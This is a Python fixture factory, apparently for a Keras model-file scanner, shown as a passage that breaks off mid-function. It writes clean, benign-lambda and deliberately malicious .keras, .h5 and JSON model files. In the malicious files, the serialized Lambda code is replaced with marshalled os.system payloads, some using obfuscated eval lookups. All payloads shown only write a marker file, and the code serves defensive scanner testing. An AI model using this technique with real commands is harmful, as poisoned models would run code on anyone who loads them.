"""Keras model fixtures made by the real Keras 3 library (torch backend).

``build_keras_corpus(outdir)`` writes a corpus of clean, benign-lambda and malicious Keras files
and returns ``{sample_name: Sample}``.

How the files are made:

* Clean and benign-lambda models are built and saved by Keras 3 itself (``.keras``, legacy
  ``.h5``, ``.weights.h5``, ``to_json``, and an unzipped ``.keras`` directory).
* Malicious files are never built by putting a dangerous Python function into a live layer:
  Keras calls a Lambda while it builds the model, so the payload would run here.  Instead a
  benign model with the same shape is saved for real, and the saved ``config.json`` / ``.h5``
  attribute is edited to swap in ``base64(marshal.dumps(code))`` of the payload.  The code object
  comes from ``compile("lambda ...", "fixture.py", "eval")``; compiling a lambda expression does
  not run its body.  Code from other Python versions is produced by the pyenv interpreters in a
  subprocess (compile + ``marshal.dumps`` + hex).
* tf.keras / Keras 2 files cannot be written without TensorFlow, so they are fabricated with
  h5py / json in the exact shape tf.keras writes.

Every payload only writes ``MODELXRAY_MARKER`` to ``/tmp/modelxray_marker_<sample>``.  Nothing
here ever loads, unmarshals or unpickles a malicious sample.
"""

from __future__ import annotations

import codecs
import contextlib
import json
import linecache
import logging
import marshal
import os
import shutil
import subprocess
import sys
import warnings
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from types import CodeType
from typing import Any

# Keras 3 picks its backend at import time; this module only ever uses torch.
os.environ["KERAS_BACKEND"] = "torch"

CLEAN = "clean"
BENIGN = "benign-lambda"
MALICIOUS = "malicious"

# Format labels (``Sample.kind``).
KIND_KERAS_ZIP = "keras3-zip"  # Keras 3 native .keras archive
KIND_KERAS_DIR = "keras3-dir"  # unzipped .keras directory (config.json at its root)
KIND_KERAS3_H5 = "keras3-h5"  # Keras 3 legacy full-model .h5
KIND_WEIGHTS_H5 = "keras3-weights-h5"  # Keras 3 model.save_weights() file
KIND_KERAS3_JSON = "keras3-json"  # Keras 3 model.to_json()
KIND_TFKERAS_H5 = "tfkeras-h5"  # tf.keras / Keras 2.2+ full-model .h5 (fabricated)
KIND_TFKERAS_JSON = "tfkeras-json"  # tf.keras / Keras 2 to_json-style file (fabricated)
KIND_KERAS21_H5 = "keras2.1-h5"  # Keras <= 2.1.1 .h5, raw_unicode_escape code (fabricated)

FIXTURE_FILENAME = "fixture.py"  # co_filename of every compiled lambda (no path leaks)
MARKER_DIR = "/tmp"
MARKER_TEXT = "MODELXRAY_MARKER"
MARKER_PREFIX = "modelxray_marker_"
PYENV_VERSIONS = Path(os.environ.get("PYENV_ROOT", "/root/.pyenv")) / "versions"
HOST_PYTHON = f"{sys.version_info.major}.{sys.version_info.minor}"

Json = Any  # a decoded JSON value


@dataclass(frozen=True)
class Sample:
    """One fixture file (or directory) and what a scanner should say about it."""

    path: Path
    expect: str  # "clean" | "benign-lambda" | "malicious"
    kind: str  # format label, one of the KIND_* constants
    note: str
    marker: str | None = None  # file the payload would create if the model were ever loaded
    # clean/benign only: Keras 3.15 rebuilds it with safe_mode=False (legacy .h5 with
    # compile=False: Keras 3.15.1 cannot restore some compiled training_configs).
    reloadable: bool = False
    code_python: str | None = None  # Python version that marshalled the code blob(s), if any


# --------------------------------------------------------------------------------------------
# Code blobs
# --------------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Blob:
    """A marshalled code object, as Keras stores it."""

    raw: bytes  # marshal.dumps(code)
    python: str  # "3.11", "3.8", "2.7", ...

    @property
    def b64(self) -> str:
        """MIME base64 (newline every 76 chars), exactly like Keras ``func_dump``."""
        return codecs.encode(self.raw, "base64").decode("ascii")

    @property
    def raw_unicode_escape(self) -> str:
        """The Keras <= 2.1.1 encoding: ``marshal.dumps(code).decode("raw_unicode_escape")``."""
        text = self.raw.decode("raw_unicode_escape")
        if text.encode("raw_unicode_escape") != self.raw:
            raise ValueError("marshal bytes do not round-trip through raw_unicode_escape")
        return text


def _descend(code: CodeType, depth: int) -> CodeType:
    for _ in range(depth):
        code = next(c for c in code.co_consts if isinstance(c, CodeType))
    return code


def lambda_code(source: str, depth: int = 1) -> CodeType:
    """Compile a lambda expression and return its code object without running its body.

    ``depth=2`` returns the code of a lambda nested in the first one (closure payloads).
    """
    return _descend(compile(source, FIXTURE_FILENAME, "eval"), depth)


def host_blob(source: str, depth: int = 1, *, flag_ref: bool = True) -> Blob:
    """Marshal a lambda's code with the running interpreter.

    CPython marshal sets FLAG_REF (0x80) on an object only if its refcount is > 1.  Keras
    marshals ``func.__code__``, which is shared, so real files start with 0xE3 (base64 ``4w``).
    Keeping the module code alive reproduces that; ``flag_ref=False`` marshals a code object
    nobody else references, giving a Python 3 blob that starts with 0x63 (base64 ``Yw``, the
    same first byte as Python 2 code).
    """
    if flag_ref:
        module_code = compile(source, FIXTURE_FILENAME, "eval")
        raw = marshal.dumps(_descend(module_code, depth))
        expected = 0xE3
    else:
        raw = marshal.dumps(_descend(compile(source, FIXTURE_FILENAME, "eval"), depth))
        expected = 0x63
    if raw[0] != expected:
        raise RuntimeError(f"unexpected marshal type byte {raw[0]:#x} for {source!r}")
    return Blob(raw, HOST_PYTHON)


# Runs under Python 2.7 and 3.x: compile only (never call), marshal, print hex.  The module code
# stays referenced so the lambda code gets FLAG_REF, as with Keras' func.__code__.
_MARSHAL_SCRIPT = """
import binascii, json, marshal, sys
out = []
for src, depth in json.loads(sys.stdin.read()):
    module_code = compile(src, "fixture.py", "eval")  # kept alive: refcount > 1 -> FLAG_REF
    code = module_code
    for _ in range(depth):
        code = [c for c in code.co_consts if hasattr(c, "co_code")][0]
    out.append(binascii.hexlify(marshal.dumps(code)).decode("ascii"))
sys.stdout.write(json.dumps(out))
"""


def pyenv_python(version: str) -> Path | None:
    """Path of the pyenv interpreter whose version starts with ``version`` (e.g. "3.8")."""
    if not PYENV_VERSIONS.is_dir():
        return None
    for candidate in sorted(PYENV_VERSIONS.iterdir()):
        if candidate.name == version or candidate.name.startswith(version + "."):
            exe = candidate / "bin" / "python"
            if exe.exists():
                return exe
    return None


def foreign_blob(version: str, source: str, depth: int = 1) -> Blob | None:
    """Marshal a lambda's code with another Python (pyenv); None if it is not installed."""
    exe = pyenv_python(version)
    if exe is None:
        return None
    proc = subprocess.run(
        [str(exe), "-E", "-s", "-c", _MARSHAL_SCRIPT],
        input=json.dumps([[source, depth]]),
        capture_output=True,
        text=True,
        timeout=60,
        check=True,
    )
    (hex_code,) = json.loads(proc.stdout)
    return Blob(bytes.fromhex(hex_code), version)


# --------------------------------------------------------------------------------------------
# Payloads (harmless: they only write a marker file)
# --------------------------------------------------------------------------------------------


def marker_path(name: str) -> str:
    return f"{MARKER_DIR}/{MARKER_PREFIX}{name}"


def marker_command(name: str) -> str:
    return f"echo {MARKER_TEXT} > {marker_path(name)}"


def payload_source(style: str, name: str) -> str:
    """Source of a malicious lambda expression.  Only ever compiled, never called here.

    Styles ``defaults`` / ``defaults_module`` / ``closure`` carry no command in the code: the
    command goes into the serialized defaults or closure values (see ``marker_command``).
    """
    cmd = marker_command(name)
    stmt = f"__import__('os').system({cmd!r})"
    sources = {
        "import_system": f"lambda x: {stmt} or x",
        # Keras 3 func_load uses keras/src/utils/python_utils.py globals, which import `os`.
        "os_system": f"lambda x: os.system({cmd!r}) or x",
        "exec": f"lambda x: exec({stmt!r}) or x",
        # ''.join keeps "eval" out of the constants ('ev' + 'al' would be constant-folded).
        "getattr_eval": (
            "lambda x: (getattr(__builtins__, ''.join(['ev', 'al']), None)"
            f" or __builtins__[''.join(['ev', 'al'])])({stmt!r}) or x"
        ),
        "defaults": "lambda x, c=None: os.system(c) or x",
        # tf.keras: "module": "os" merges os.__dict__ into the lambda globals -> bare `system`.
        "defaults_module": "lambda x, c=None: system(c) or x",
        "closure": "lambda c: lambda x: os.system(c) or x",
    }
    return sources[style]


def payload_depth(style: str) -> int:
    return 2 if style == "closure" else 1


# --------------------------------------------------------------------------------------------
# Keras (imported lazily so that importing this module for `Sample` stays cheap)
# --------------------------------------------------------------------------------------------


def import_keras() -> Any:
    """Import Keras 3 on the torch backend."""
    loaded = sys.modules.get("keras")
    if loaded is not None and loaded.backend.backend() != "torch":
        raise RuntimeError(
            "keras was imported with another backend before the fixture factory; "
            "set KERAS_BACKEND=torch before importing keras"
        )
    import keras

    return keras


def benign_function(source: str) -> Any:
    """Evaluate a *benign* lambda expression with a neutral ``co_filename``.

    The source is registered in ``linecache`` because Keras calls ``inspect.getsource`` on
    lambdas it serializes (for a warning message).
    """
    linecache.cache[FIXTURE_FILENAME] = (len(source), None, [source + "\n"], FIXTURE_FILENAME)
    return eval(compile(source, FIXTURE_FILENAME, "eval"), {"keras": import_keras()})


@contextlib.contextmanager
def quiet_keras() -> Iterator[None]:
    """Silence Keras' lambda-serialization UserWarnings and the absl legacy-HDF5 warning."""
    absl_logger = logging.getLogger("absl")
    level = absl_logger.level
    absl_logger.setLevel(logging.ERROR)
    try:
        with warnings.catch_warnings():
            warnings.simplefilter("ignore", UserWarning)
            yield
    finally:
        absl_logger.setLevel(level)


BENIGN_SOURCES = {
    "double": "lambda x: x * 2.0",
    "relu": "lambda x: keras.ops.relu(x)",
    "scale": "lambda x, scale: x * scale",
    "output_shape": "lambda s: s",
    "mask": "lambda inputs, mask: mask",
    "closure": "(lambda c: lambda x: x * c)(2.0)",
    "loss": "lambda y_true, y_pred: keras.ops.mean(keras.ops.square(y_pred - y_true))",
}


def build_dense_model() -> Any:
    """Tiny Sequential Dense model: 4 inputs -> Dense(2)."""
    keras = import_keras()
    return keras.Sequential(
        [keras.Input(shape=(4,), name="input"), keras.layers.Dense(2, name="dense")],
        name="clean_dense",
    )


def build_complex_model() -> Any:
    """Functional model: TimeDistributed(Dense) -> nested functional sub-model ->
    Bidirectional(LSTM) -> Dense, compiled (so compile_config / training_config exist)."""
    keras = import_keras()
    layers = keras.layers
    sub_in = keras.Input(shape=(3, 3), name="sub_input")
    sub_out = layers.Dense(3, name="sub_dense_2")(
        layers.Dense(3, activation="relu", name="sub_dense_1")(sub_in)
    )
    sub = keras.Model(sub_in, sub_out, name="sub_model")
    inp = keras.Input(shape=(3, 4), name="input")
    x = layers.TimeDistributed(layers.Dense(3, name="td_dense"), name="time_distributed")(inp)
    x = sub(x)
    x = layers.Bidirectional(layers.LSTM(2, name="lstm"), name="bidirectional")(x)
    out = layers.Dense(1, name="head")(x)
    model = keras.Model(inp, out, name="clean_complex")
    model.compile(optimizer="adam", loss="mse", metrics=["mae"])
    return model


LAMBDA_VARIANTS = (
    "toplevel",
    "nested",
    "timedistributed",
    "activation",
    "arguments",
    "shape_mask",
    "closure",
    "loss",
)


def build_lambda_model(variant: str = "toplevel") -> Any:
    """A tiny model holding benign lambdas in the place named by ``variant``."""
    keras = import_keras()
    layers = keras.layers
    fn = benign_function
    double = BENIGN_SOURCES["double"]
    if variant == "toplevel":
        inp = keras.Input(shape=(4,), name="input")
        x = layers.Lambda(fn(double), name="double")(inp)
        return keras.Model(inp, layers.Dense(2, name="dense")(x), name="lambda_toplevel")
    if variant == "nested":
        sub_in = keras.Input(shape=(4,), name="sub_input")
        sub_out = layers.Lambda(fn(double), name="inner_lambda")(sub_in)
        sub = keras.Model(sub_in, sub_out, name="sub_model")
        inp = keras.Input(shape=(4,), name="input")
        out = layers.Dense(2, name="dense")(sub(inp))
        return keras.Model(inp, out, name="lambda_nested")
    if variant == "timedistributed":
        inp = keras.Input(shape=(3, 4), name="input")
        inner = layers.Lambda(fn(double), name="inner_lambda")
        x = layers.TimeDistributed(inner, name="time_distributed")(inp)
        return keras.Model(inp, layers.Dense(2, name="dense")(x), name="lambda_timedistributed")
    if variant == "activation":
        inp = keras.Input(shape=(4,), name="input")
        out = layers.Dense(2, activation=fn(BENIGN_SOURCES["relu"]), name="dense")(inp)
        return keras.Model(inp, out, name="lambda_activation")
    if variant == "arguments":
        inp = keras.Input(shape=(4,), name="input")
        scale = layers.Lambda(fn(BENIGN_SOURCES["scale"]), arguments={"scale": 3.0}, name="scale")
        return keras.Model(inp, layers.Dense(2, name="dense")(scale(inp)), name="lambda_arguments")
    if variant == "shape_mask":
        inp = keras.Input(shape=(4,), name="input")
        lam = layers.Lambda(
            fn(double),
            output_shape=fn(BENIGN_SOURCES["output_shape"]),
            mask=fn(BENIGN_SOURCES["mask"]),
            name="double",
        )
        return keras.Model(inp, layers.Dense(2, name="dense")(lam(inp)), name="lambda_shape_mask")
    if variant == "closure":
        inp = keras.Input(shape=(4,), name="input")
        x = layers.Lambda(fn(BENIGN_SOURCES["closure"]), name="scale_closure")(inp)
        return keras.Model(inp, layers.Dense(2, name="dense")(x), name="lambda_closure")
    if variant == "loss":
        model = build_dense_model()
        model.compile(optimizer="sgd", loss=fn(BENIGN_SOURCES["loss"]))
        return model
    raise ValueError(f"unknown lambda variant {variant!r}")


def save_model(model: Any, path: Path) -> None:
    with quiet_keras():
        model.save(str(path))


def save_json(model: Any, path: Path) -> None:
    with quiet_keras():
        path.write_text(model.to_json(), encoding="utf-8")


# --------------------------------------------------------------------------------------------
# Editing saved files
# --------------------------------------------------------------------------------------------


def walk_dicts(tree: Json, parent_key: str | None = None) -> Iterator[tuple[str | None, dict]]:
    """Yield ``(key under which the dict sits, dict)`` for every dict in a JSON tree."""
    if isinstance(tree, dict):
        yield parent_key, tree
        for key, value in tree.items():
            yield from walk_dicts(value, key)
    elif isinstance(tree, list):
        for item in tree:
            yield from walk_dicts(item, parent_key)


Edit = Callable[[Json], int]  # mutates a config in place, returns how many spots it changed


def swap_lambda(
    blob: Blob,
    *,
    key: str | None = None,
    defaults: list[Json] | None = None,
    closure: list[Json] | None = None,
) -> Edit:
    """Replace the code of every serialized lambda (optionally only those under ``key``).

    Handles the Keras 3 shapes ``{"class_name": "__lambda__", "config": {"code", "defaults",
    "closure"}}``, ``{"class_name": "__lambda__", "config": {"value": [code, d, c]}}`` and the
    bare activation form ``{"value": [code, d, c]}``.
    """

    def edit(tree: Json) -> int:
        count = 0
        for parent, node in list(walk_dicts(tree)):
            if key is not None and parent != key:
                continue
            if node.get("class_name") == "__lambda__" and isinstance(node.get("config"), dict):
                inner = node["config"]
                if "code" in inner:
                    inner.update(code=blob.b64, defaults=defaults, closure=closure)
                    count += 1
                elif isinstance(inner.get("value"), list):
                    inner["value"] = [blob.b64, defaults, closure]
                    count += 1
            elif set(node) == {"value"} and isinstance(node["value"], list):
                node["value"] = [blob.b64, defaults, closure]
                count += 1
        return count

    return edit


def set_lambda_activation(
    layer_class: str, blob: Blob, *, defaults: list[Json] | None = None
) -> Edit:
    """Give every ``layer_class`` layer a loadable lambda activation
    ``{"class_name": "__lambda__", "config": {"value": [code, defaults, null]}}``."""

    def edit(tree: Json) -> int:
        count = 0
        for _, node in list(walk_dicts(tree)):
            if node.get("class_name") == layer_class and "activation" in node.get("config", {}):
                node["config"]["activation"] = {
                    "class_name": "__lambda__",
                    "config": {"value": [blob.b64, defaults, None]},
                }
                count += 1
        return count

    return edit


def set_loss(blob: Blob) -> Edit:
    """Replace ``loss`` of an h5 ``training_config`` with a ``__lambda__`` (value form)."""

    def edit(tree: Json) -> int:
        tree["loss"] = {"class_name": "__lambda__", "config": {"value": [blob.b64, None, None]}}
        return 1

    return edit


def _apply(edit: Edit, config: Json, where: Path) -> None:
    if edit(config) == 0:
        raise RuntimeError(f"fixture edit changed nothing in {where}")


def rewrite_zip(src: Path, dst: Path, replace: dict[str, bytes]) -> None:
    """Copy a zip member by member (same order, ZipInfo and compression), replacing some."""
    tmp = dst.with_name(dst.name + ".tmp")
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(tmp, "w") as zout:
        for info in zin.infolist():
            data = replace.get(info.filename)
            zout.writestr(info, zin.read(info) if data is None else data)
    tmp.replace(dst)


def derive_keras_zip(src: Path, dst: Path, edit: Edit) -> None:
    with zipfile.ZipFile(src) as zf:
        config = json.loads(zf.read("config.json"))
    _apply(edit, config, src)
    rewrite_zip(src, dst, {"config.json": json.dumps(config).encode("utf-8")})


# How a JSON string attribute is stored in HDF5:
#   "fixed"      fixed-length bytes (h5py 2.x writing `bytes`, the tf.keras era); h5py 3 reads
#                it back as numpy.bytes_
#   "vlen-ascii" variable-length ASCII (h5py 3 writing `bytes`, e.g. Keras 3); read back as str
#   "vlen-utf8"  variable-length UTF-8 (h5py writing `str`); read back as str
ATTR_STYLES = ("fixed", "vlen-ascii", "vlen-utf8")


def h5_attr_style(attrs: Any, name: str) -> str:
    import h5py

    info = h5py.check_string_dtype(attrs.get_id(name).dtype)
    if info is None:
        raise TypeError(f"HDF5 attribute {name!r} is not a string")
    if info.length is not None:
        return "fixed"
    return "vlen-ascii" if info.encoding == "ascii" else "vlen-utf8"


def h5_string(text: str, style: str) -> Any:
    """``text`` as a value that h5py stores with the given ``ATTR_STYLES`` style."""
    import numpy as np

    if style == "fixed":
        return np.bytes_(text.encode("utf-8"))
    if style == "vlen-ascii":
        return text.encode("utf-8")
    if style == "vlen-utf8":
        return text
    raise ValueError(f"unknown attr style {style!r}")


def derive_h5(src: Path, dst: Path, edit: Edit, attr: str = "model_config") -> None:
    """Copy an .h5 into a fresh file, editing one JSON root attribute.

    Every root attribute keeps its HDF5 string type; groups and datasets are copied as they are.
    (Rewriting the attribute in place would leave the old one's space behind in the file.)
    """
    import h5py

    with h5py.File(src, "r") as fin, h5py.File(dst, "w") as fout:
        for key in fin.attrs:
            value = fin.attrs[key]
            if key != attr:
                fout.attrs.create(key, value, dtype=fin.attrs.get_id(key).dtype)
                continue
            config = json.loads(value.decode("utf-8") if isinstance(value, bytes) else value)
            _apply(edit, config, src)
            fout.attrs[key] = h5_string(json.dumps(config), h5_attr_style(fin.attrs, key))
        for name in fin:
            fin.copy(fin[name], fout, name=name)


def derive_json(src: Path, dst: Path, edit: Edit) -> None:
    config = json.loads(src.read_text(encoding="utf-8"))
    _apply(edit, config, src)
    dst.write_text(json.dumps(config), encoding="utf-8")


def unzip_keras(src: Path, dst: Path) -> None:
    """Extract a .keras archive into a directory (Keras loads such a directory too)."""
    if dst.exists():
        shutil.rmtree(dst)
    dst.mkdir(parents=True)
    with zipfile.ZipFile(src) as zf:
        for name in zf.namelist():
            (dst / name).parent.mkdir(parents=True, exist_ok=True)
            (dst / name).write_bytes(zf.read(name))


def renumber_shared_ids(tree: Json) -> int:
    """Replace ``shared_object_id`` values (``id(obj)``, a memory address) by 1, 2, 3, ...
    in order of first appearance.  Equal ids stay equal, so sharing is preserved."""
    mapping: dict[Any, int] = {}
    for _, node in walk_dicts(tree):
        if "shared_object_id" in node:
            old = node["shared_object_id"]
            node["shared_object_id"] = mapping.setdefault(old, len(mapping) + 1)
    return len(mapping)


def normalize_keras_zip(path: Path, date_saved: str = "2025-01-01@00:00:00") -> None:
    """Make a .keras archive reproducible: fixed metadata date, renumbered shared object ids
    and fixed member timestamps.  (The HDF5 weights file inside is left as Keras wrote it.)"""
    with zipfile.ZipFile(path) as zf:
        infos = zf.infolist()
        members = {info.filename: zf.read(info) for info in infos}
    metadata = json.loads(members["metadata.json"])
    metadata["date_saved"] = date_saved
    members["metadata.json"] = json.dumps(metadata).encode("utf-8")
    config = json.loads(members["config.json"])
    renumber_shared_ids(config)
    members["config.json"] = json.dumps(config).encode("utf-8")
    tmp = path.with_name(path.name + ".tmp")
    with zipfile.ZipFile(tmp, "w") as zout:
        for info in infos:
            fixed = zipfile.ZipInfo(info.filename, date_time=(1980, 1, 1, 0, 0, 0))
            fixed.compress_type = info.compress_type
            fixed.external_attr = info.external_attr
            zout.writestr(fixed, members[info.filename])
    tmp.replace(path)


# --------------------------------------------------------------------------------------------
# tf.keras / Keras 2 fabrication (no TensorFlow): shapes per keras-threats.md §1.a and §5.2
# --------------------------------------------------------------------------------------------


def tfkeras_lambda_config(
    function: Json, function_type: str = "lambda", module: str | None = "__main__"
) -> dict[str, Json]:
    return {
        "name": "lambda",
        "trainable": True,
        "dtype": "float32",
        "function": function,
        "function_type": function_type,
        "module": module,
        "output_shape": None,
        "output_shape_type": "raw",
        "output_shape_module": None,
        "arguments": {},
    }


def _tfkeras_dense_config(name: str) -> dict[str, Json]:
    return {
        "name": name,
        "trainable": True,
        "dtype": "float32",
        "units": 2,
        "activation": "linear",
        "use_bias": True,
        "kernel_initializer": {"class_name": "GlorotUniform", "config": {"seed": None}},
        "bias_initializer": {"class_name": "Zeros", "config": {}},
        "kernel_regularizer": None,
        "bias_regularizer": None,
        "activity_regularizer": None,
        "kernel_constraint": None,
        "bias_constraint": None,
    }


def tfkeras_model_config(lambda_config: dict[str, Json]) -> dict[str, Json]:
    """tf.keras 2.x Sequential ``model_config``: InputLayer -> Lambda -> Dense(2)."""
    input_layer = {
        "batch_input_shape": [None, 4],
        "dtype": "float32",
        "sparse": False,
        "ragged": False,
        "name": "input_1",
    }
    return {
        "class_name": "Sequential",
        "config": {
            "name": "sequential",
            "layers": [
                {"class_name": "InputLayer", "config": input_layer},
                {"class_name": "Lambda", "config": lambda_config},
                {"class_name": "Dense", "config": _tfkeras_dense_config("dense")},
            ],
        },
    }


def keras21_model_config(function: Json) -> dict[str, Json]:
    """Keras <= 2.1 Sequential ``model_config``: ``config`` is a plain list of layers."""
    lam = {
        "name": "lambda_1",
        "trainable": True,
        "batch_input_shape": [None, 4],
        "dtype": "float32",
        "function": function,
        "function_type": "lambda",
        "output_shape": None,
        "output_shape_type": "raw",
        "arguments": {},
    }
    return {
        "class_name": "Sequential",
        "config": [
            {"class_name": "Lambda", "config": lam},
            {"class_name": "Dense", "config": _tfkeras_dense_config("dense_1")},
        ],
    }


def write_tfkeras_h5(
    path: Path,
    model_config: dict[str, Json],
    *,
    keras_version: str = "2.15.0",
    attr_style: str = "fixed",
) -> None:
    """Write a tf.keras-format full-model .h5 (root attrs + ``model_weights``) with h5py.

    ``attr_style`` (see ``ATTR_STYLES``) applies to every string attribute.
    """
    import h5py
    import numpy as np

    def attr(text: str) -> Any:
        return h5_string(text, attr_style)

    layers = model_config["config"]
    if isinstance(layers, dict):
        layers = layers["layers"]
    names = [layer["config"]["name"] for layer in layers if layer["class_name"] != "InputLayer"]
    with h5py.File(path, "w") as f:
        f.attrs["keras_version"] = attr(keras_version)
        f.attrs["backend"] = attr("tensorflow")
        f.attrs["model_config"] = attr(json.dumps(model_config))
        weights = f.create_group("model_weights")
        weights.attrs["layer_names"] = np.array([n.encode("utf-8") for n in names])
        weights.attrs["backend"] = attr("tensorflow")
        weights.attrs["keras_version"] = attr(keras_version)
        for name in names:
            group = weights.create_group(name)
            if not name.startswith("dense"):
                group.attrs["weight_names"] = np.array([], dtype="S1")
                continue
            group.attrs["weight_names"] = np.array(
                [f"{name}/kernel:0".encode(), f"{name}/bias:0".encode()]
            )
            group.create_dataset(f"{name}/kernel:0", data=np.full((4, 2), 0.5, dtype="float32"))
            group.create_dataset(f"{name}/bias:0", data=np.ones((2,), dtype="float32"))


# --------------------------------------------------------------------------------------------
# The corpus
# --------------------------------------------------------------------------------------------


class _Corpus:
    def __init__(self, outdir: Path) -> None:
        self.outdir = outdir
        self.samples: dict[str, Sample] = {}

    def path(self, name: str, suffix: str) -> Path:
        return self.outdir / f"{name}{suffix}"

    def add(
        self,
        name: str,
        path: Path,
        expect: str,
        kind: str,
        note: str,
        *,
        marker: bool = True,
        reloadable: bool = False,
        code_python: str | None = None,
    ) -> None:
        if name in self.samples:
            raise ValueError(f"duplicate sample {name}")
        if not path.exists():
            raise RuntimeError(f"fixture {name} was not written to {path}")
        has_marker = marker and expect == MALICIOUS
        self.samples[name] = Sample(
            path=path,
            expect=expect,
            kind=kind,
            note=note,
            marker=marker_path(name) if has_marker else None,
            reloadable=reloadable and expect != MALICIOUS,
            code_python=code_python,
        )

    def payload(self, name: str, style: str, python: str | None = None) -> Blob | None:
        source = payload_source(style, name)
        depth = payload_depth(style)
        if python is None or python == HOST_PYTHON:
            return host_blob(source, depth)
        return foreign_blob(python, source, depth)


def _build_clean(c: _Corpus) -> dict[str, Path]:
    dense = build_dense_model()
    complex_model = build_complex_model()
    out = {
        "dense_keras": c.path("clean_dense", ".keras"),
        "dense_h5": c.path("clean_dense", ".h5"),
        "complex_keras": c.path("clean_complex", ".keras"),
        "complex_h5": c.path("clean_complex", ".h5"),
    }
    save_model(dense, out["dense_keras"])
    save_model(dense, out["dense_h5"])
    save_model(complex_model, out["complex_keras"])
    save_model(complex_model, out["complex_h5"])
    weights = c.path("clean_dense", ".weights.h5")
    with quiet_keras():
        dense.save_weights(str(weights))
    save_json(dense, c.path("clean_dense", ".json"))
    save_json(complex_model, c.path("clean_complex", ".json"))
    unzip_keras(out["dense_keras"], c.outdir / "clean_dense_keras_dir")

    c.add(
        "clean_dense_keras",
        out["dense_keras"],
        CLEAN,
        KIND_KERAS_ZIP,
        "Sequential Dense(2) on 4 inputs",
        reloadable=True,
    )
    c.add(
        "clean_dense_h5",
        out["dense_h5"],
        CLEAN,
        KIND_KERAS3_H5,
        "Sequential Dense, model.save('x.h5')",
        reloadable=True,
    )
    c.add(
        "clean_complex_keras",
        out["complex_keras"],
        CLEAN,
        KIND_KERAS_ZIP,
        "functional: TimeDistributed(Dense), nested functional sub-model, "
        "Bidirectional(LSTM); compiled -> compile_config",
        reloadable=True,
    )
    c.add(
        "clean_complex_h5",
        out["complex_h5"],
        CLEAN,
        KIND_KERAS3_H5,
        "same complex model as legacy .h5 -> training_config attr (Keras 3.15.1 reloads it "
        "only with compile=False: metric 'mae' fails to deserialize)",
        reloadable=True,
    )
    c.add(
        "clean_dense_weights_h5",
        weights,
        CLEAN,
        KIND_WEIGHTS_H5,
        "model.save_weights(): weights only, no config",
        reloadable=True,
    )
    c.add(
        "clean_dense_json",
        c.path("clean_dense", ".json"),
        CLEAN,
        KIND_KERAS3_JSON,
        "model.to_json() of the Dense model",
        reloadable=True,
    )
    c.add(
        "clean_complex_json",
        c.path("clean_complex", ".json"),
        CLEAN,
        KIND_KERAS3_JSON,
        "model.to_json() of the complex model (includes compile_config)",
        reloadable=True,
    )
    c.add(
        "clean_dense_keras_dir",
        c.outdir / "clean_dense_keras_dir",
        CLEAN,
        KIND_KERAS_DIR,
        "unzipped .keras: config.json + metadata.json + model.weights.h5",
        reloadable=True,
    )
    return out


_BENIGN_NOTES = {
    "toplevel": "Lambda(lambda x: x * 2.0) at top level",
    "nested": "Lambda inside a nested functional sub-model",
    "timedistributed": "TimeDistributed(Lambda(...))",
    "activation": "Dense(activation=lambda x: keras.ops.relu(x)) -> {'value': [b64, null, null]}"
    " (Keras 3.15 cannot reload this shape)",
    "arguments": "Lambda(lambda x, scale: x * scale, arguments={'scale': 3.0})",
    "shape_mask": "Lambda with lambda function, lambda output_shape and lambda mask",
    "closure": "Lambda whose function has a closure cell (closure: [2.0])",
    "loss": "compiled with a lambda loss -> compile_config.loss = __lambda__ {'value': [...]}",
}


def _build_benign(c: _Corpus) -> dict[str, dict[str, Path]]:
    """Every benign variant as .keras, .h5 and .json; returns the paths per variant."""
    out: dict[str, dict[str, Path]] = {}
    for variant in LAMBDA_VARIANTS:
        model = build_lambda_model(variant)
        paths = {ext: c.path(f"benign_{variant}", f".{ext}") for ext in ("keras", "h5", "json")}
        if variant == "loss":
            paths["h5"] = c.path("clean_loss_name", ".h5")
        save_model(model, paths["keras"])
        save_model(model, paths["h5"])
        save_json(model, paths["json"])
        out[variant] = paths
        note = _BENIGN_NOTES[variant]
        reloadable = variant != "activation"
        c.add(
            f"benign_{variant}_keras",
            paths["keras"],
            BENIGN,
            KIND_KERAS_ZIP,
            note,
            reloadable=reloadable,
            code_python=HOST_PYTHON,
        )
        c.add(
            f"benign_{variant}_json",
            paths["json"],
            BENIGN,
            KIND_KERAS3_JSON,
            note,
            reloadable=reloadable,
            code_python=HOST_PYTHON,
        )
        if variant == "loss":
            # Legacy .h5 keeps only the loss *name*: training_config.loss == "<lambda>".
            c.add(
                "clean_loss_name_h5",
                paths["h5"],
                CLEAN,
                KIND_KERAS3_H5,
                "compiled with a lambda loss, but .h5 stores only the string '<lambda>' "
                "(no code); reloads only with compile=False",
                reloadable=True,
            )
        else:
            c.add(
                f"benign_{variant}_h5",
                paths["h5"],
                BENIGN,
                KIND_KERAS3_H5,
                note,
                reloadable=reloadable,
                code_python=HOST_PYTHON,
            )

    blob = host_blob(BENIGN_SOURCES["double"])
    tfk = c.path("benign_tfkeras", ".h5")
    write_tfkeras_h5(tfk, tfkeras_model_config(tfkeras_lambda_config([blob.b64, None, None])))
    c.add(
        "benign_tfkeras_h5",
        tfk,
        BENIGN,
        KIND_TFKERAS_H5,
        "fabricated tf.keras .h5, list form [code, null, null], lambda x: x * 2.0",
        reloadable=True,
        code_python=HOST_PYTHON,
    )
    return out


def _build_malicious_keras3(
    c: _Corpus, clean: dict[str, Path], benign: dict[str, dict[str, Path]]
) -> None:
    def blob(name: str, style: str = "import_system", python: str | None = None) -> Blob:
        made = c.payload(name, style, python)
        assert made is not None
        return made

    top = benign["toplevel"]
    name = "mal_toplevel_keras"
    b = blob(name)
    derive_keras_zip(top["keras"], c.path(name, ".keras"), swap_lambda(b))
    c.add(
        name,
        c.path(name, ".keras"),
        MALICIOUS,
        KIND_KERAS_ZIP,
        "top-level Lambda, __import__('os').system(...)",
        code_python=b.python,
    )

    name = "mal_toplevel_h5"
    b = blob(name)
    derive_h5(top["h5"], c.path(name, ".h5"), swap_lambda(b))
    c.add(
        name,
        c.path(name, ".h5"),
        MALICIOUS,
        KIND_KERAS3_H5,
        "Keras 3 legacy .h5, top-level Lambda (executes on load in Keras < 3.11.3 "
        "regardless of safe_mode)",
        code_python=b.python,
    )

    name = "mal_keras_dir"
    b = blob(name)
    tmp_zip = c.path(name, ".tmp.keras")
    derive_keras_zip(top["keras"], tmp_zip, swap_lambda(b))
    unzip_keras(tmp_zip, c.outdir / name)
    tmp_zip.unlink()
    c.add(
